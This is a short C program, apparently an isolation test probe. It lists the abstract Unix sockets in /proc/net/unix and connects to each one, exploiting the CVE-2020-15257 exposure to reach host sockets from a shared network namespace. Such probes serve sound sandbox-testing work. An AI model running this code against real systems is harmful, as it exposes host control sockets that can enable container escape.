// Connects to the abstract sockets of the machine, whose network the step shares (CVE-2020-15257).
#include "attack.h"
#include <stddef.h>
#include <sys/un.h>

int main(void) {
    FILE *list = fopen("/proc/net/unix", "r");
    char line[1024];
    while (list && fgets(line, sizeof line, list)) {
        char *name = strchr(line, '@');
        if (!name)
            continue;
        name[strcspn(name, "\n")] = 0;
        struct sockaddr_un address = { .sun_family = AF_UNIX };
        size_t length = strlen(name) < sizeof address.sun_path ? strlen(name) : sizeof address.sun_path;
        memcpy(address.sun_path, name, length);
        address.sun_path[0] = 0;
        int fd = socket(AF_UNIX, SOCK_STREAM, 0);
        struct timeval limit = { .tv_sec = 1 };
        setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
        if (connect(fd, (struct sockaddr *)&address, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + length)) == 0)
            show(fd);
        else
            close(fd);
    }
    return over();
}
